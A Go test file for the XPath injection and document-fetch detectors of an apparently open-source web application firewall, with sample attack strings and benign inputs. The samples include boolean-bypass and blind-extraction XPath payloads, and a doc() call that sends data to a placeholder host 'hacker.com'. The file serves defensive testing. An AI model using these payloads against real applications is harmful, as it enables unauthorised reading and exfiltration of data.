package xpath

import (
	"testing"

	"github.com/lambdawaf/lambdawaf/agent/detect/lex"
)

func TestInjection(t *testing.T) {
	for _, c := range []struct {
		s     string
		found bool
	}{
		{"' or name()='username' or 'x'='y", true},
		{"'] | //user/*[contains(*,'", true},
		{"count(/child::node())", true},
		{"substring(//user[userid=5]/username,2,1)=codepoints-to-string(65)", true},
		{"it's or that's fine", false},
		{"see the docs (/usr/share/doc) and count(items)", false},
		{"std::vector<int>", false},
	} {
		have := lex.BytesOf(c.s)
		if i, _ := Injection(c.s, &have); (i >= 0) != c.found {
			t.Errorf("Injection(%q) = %d, want found=%v", c.s, i, c.found)
		}
	}
}

func TestFetch(t *testing.T) {
	for _, c := range []struct {
		s    string
		want int
	}{
		{"doc('http://hacker.com/file.xml')", 0},
		{"doc-available(concat('http://hacker.com/oob/', name(/*)))", 0},
		{"x = db.doc('users/123')", -1},
		{"doc('users/123')", -1},
		{"see the doc (chapter 2)", -1},
	} {
		have := lex.BytesOf(c.s)
		if got := fetch(c.s, &have); got != c.want {
			t.Errorf("fetch(%q) = %d, want %d", c.s, got, c.want)
		}
	}
}
